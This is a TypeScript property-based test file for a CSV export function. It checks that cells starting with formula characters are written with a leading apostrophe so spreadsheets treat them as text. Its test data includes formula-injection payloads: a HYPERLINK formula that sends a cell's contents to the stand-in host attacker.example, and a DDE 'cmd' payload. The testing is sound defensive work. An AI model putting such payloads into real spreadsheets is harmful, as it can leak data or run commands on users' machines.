import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type CsvCell, csvRows } from "./csv.ts";

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const readBack = (text: string): string[][] =>
  parse(text, { bom: true, relax_column_count: true, skip_empty_lines: false });

/** Text that a spreadsheet could take for a formula, and text around it. */
const hostileText = fc.oneof(
  fc.string({ unit: "grapheme" }),
  fc
    .tuple(
      fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"),
      fc.string(),
    )
    .map(([start, rest]) => start + rest),
  fc.constantFrom(
    '=HYPERLINK("http://attacker.example/?"&A1,"Open")',
    "@SUM(1)",
    "-2+3",
    "+cmd|' /C calc'!A0",
  ),
);
const cell: fc.Arbitrary<CsvCell> = fc.oneof(hostileText, fc.double({ noNaN: true }), fc.integer());
// Every row has a text cell first, so no row is written as an empty line.
const rows = fc.array(
  fc.tuple(hostileText, fc.array(cell, { maxLength: 5 })).map(([first, rest]) => [first || "x", ...rest]),
  { minLength: 1, maxLength: 8 },
);

/** Each cell given, beside what came back for it. */
const pairs = (input: CsvCell[][], output: string[][]): [CsvCell, string | undefined][] =>
  input.flatMap((row, r) => row.map((value, c): [CsvCell, string | undefined] => [value, output[r]?.[c]]));

describe("csvRows", () => {
  it("never writes a text cell a spreadsheet would run as a formula; numbers stay numbers", () => {
    fc.assert(
      fc.property(rows, (input) => {
        const output = readBack(csvRows(input));
        expect(output).toHaveLength(input.length);
        for (const [value, written] of pairs(input, output)) {
          if (typeof value === "number") expect(written).toBe(String(value));
          else expect(written).not.toMatch(FORMULA_START);
        }
      }),
    );
  });

  it("gives ordinary text back exactly, and guarded text with only the apostrophe added", () => {
    fc.assert(
      fc.property(rows, (input) => {
        const output = readBack(csvRows(input, { byteOrderMark: true }));
        for (const [value, written] of pairs(input, output))
          if (typeof value === "string")
            expect(written).toBe(FORMULA_START.test(value) ? `'${value}` : value);
      }),
    );
  });

  it("writes the attacks of the issue as plain text", () => {
    const text = csvRows([['=HYPERLINK("http://attacker.example/?"&A1,"Open")', "@SUM(1)", -5, "-5"]]);
    expect(text).toBe(`"'=HYPERLINK(""http://attacker.example/?""&A1,""Open"")",'@SUM(1),-5,'-5\r\n`);
  });

  it("quotes separators, quotes and line breaks, writes nothing for missing values, can start with a BOM", () => {
    expect(csvRows([["a,b", 'say "hi"', "x;y", "two\nlines", null, undefined, 1.5]])).toBe(
      `"a,b","say ""hi""","x;y","two\nlines",,,1.5\r\n`,
    );
    expect(csvRows([["Müller"]], { byteOrderMark: true })).toBe("\uFEFFMüller\r\n");
  });
});
